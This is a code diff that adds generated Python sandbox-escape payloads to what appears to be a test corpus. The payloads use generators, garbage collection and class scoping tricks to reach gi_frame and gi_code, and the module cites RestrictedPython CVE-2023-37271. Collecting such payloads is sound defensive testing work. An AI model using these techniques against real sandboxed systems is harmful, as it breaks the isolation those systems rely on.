@@ -1,8 +1,54 @@
 """Frames, code objects and cells: through generators, tracebacks, functions and exceptions."""
 
-from .payloads import table
+from .payloads import Payload, table
 
-PAYLOADS = table(
+#: A name that is read twice, of a type in between: the variable is not the module's, which nobody
+#: else binds, but that of a generator which the collector closes between the two.
+_BETWEEN = """
+class B: {name} = 0
+def gen(): yield 1
+G = gen()
+next(G)
+K = []
+def main():
+ x = B()
+ {around}
+ try: yield {function}
+ finally: x = G
+def start():
+    g = main()
+    f = next(g)
+    c = [g]
+    c.append(c)
+    return f
+try: start()()
+except AttributeError: pass
+for k in K: probe(k[-1])
+"""
+_READS = "; ".join(["K.append([" + "[], " * 90 + "x.{name}])"] * 40)
+#: What is around the read, and what leads to the function that it is in.
+_AROUND = {
+    "class-global": ("class A:\n  global x\n  def f(): {reads}", "A.f"),
+    "class-in-class": ("class A:\n  global x\n  class C:\n   def f(): {reads}", "A.C.f"),
+    "class-global-lambda": ("class A:\n  global x\n  f = lambda: [{reads}]", "A.f"),
+    "class-nonlocal": ("class A:\n  nonlocal x\n  x = x\n def f(): {reads}", "f"),
+    "class-binds": ("class A:\n  x = 1\n  def f(): {reads}", "A.f"),
+    "closure": ("def f(): {reads}", "f"),
+}
+
+
+def _between() -> list[Payload]:
+    found = []
+    for number, (name, (around, function)) in enumerate(_AROUND.items()):
+        attribute = ("gi_frame", "gi_code")[number % 2]
+        reads = _READS.replace("{name}", attribute)
+        text = around.format(reads=reads.replace(";", ",") if "lambda" in around else reads)
+        source = _BETWEEN.format(name=attribute, around=text, function=function)
+        found.append(Payload(f"between-reads-{name}", "a collection between two reads", source))
+    return found
+
+
+PAYLOADS = _between() + table(
     """
 === gi-frame | RestrictedPython CVE-2023-37271
 def g(): yield
